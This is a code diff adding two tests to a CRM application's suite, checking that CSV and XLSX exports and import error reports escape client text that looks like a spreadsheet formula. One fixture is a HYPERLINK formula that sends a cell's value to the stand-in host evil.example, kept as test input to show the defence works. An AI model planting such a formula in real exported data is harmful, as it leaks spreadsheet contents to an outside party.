@@ -684,3 +684,35 @@ def test_a_status_column_sets_new_clients_stages_and_leaves_existing_ones(make_c
         assert (party.position, party.stage) == ("поставщик", "lead")
         beta = work.session.scalars(select(Party).where(Party.name == "Бета")).one()
         assert beta.stage == "client"
+
+
+def test_export_writes_client_text_that_looks_like_a_formula_as_text(crm):
+    link = '=HYPERLINK("http://evil.example/?"&A2,"Открыть")'
+    ann = add_user(crm, "ann", ["agent"])
+    with crm.acting_as(ann) as work:
+        party = work.parties.create(
+            name=link, contact_points=[{"kind": "phone", "value": "+7 916 000-00-00"}]
+        )
+        text = export_parties(work, "csv").decode("utf-8-sig")
+        data = export_parties(work, "xlsx")
+    [header, row] = list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))
+    assert row[header.index("id")] == str(party.id)  # a number stays a number
+    assert row[header.index("name")] == "'" + link
+    assert row[header.index("phone")].startswith("'+7")
+    sheet = load_workbook(io.BytesIO(data)).active
+    name = sheet.cell(row=2, column=2)
+    assert (name.value, name.data_type) == (link, "s")
+    assert sheet.cell(row=2, column=1).value == party.id
+
+
+def test_the_error_report_gives_back_the_files_text_as_text(crm):
+    anna = add_user(crm, "anna", ["manager"])
+    run_id, _ = _start(crm, anna, "Название\nООО Ромашка\n".encode())
+    with crm.system() as work:  # errors name the file's columns and quote its values
+        work.session.get(ImportRun, run_id).errors = [
+            {"row": 2, "column": "=1+2", "reason": "@A1: not a number"}
+        ]
+    with crm.acting_as(anna) as work:
+        report = work.imports.error_report(run_id).decode("utf-8-sig")
+    rows = list(csv.reader(io.StringIO(report, newline=""), delimiter=";"))
+    assert rows == [["row", "column", "reason"], ["2", "'=1+2", "'@A1: not a number"]]
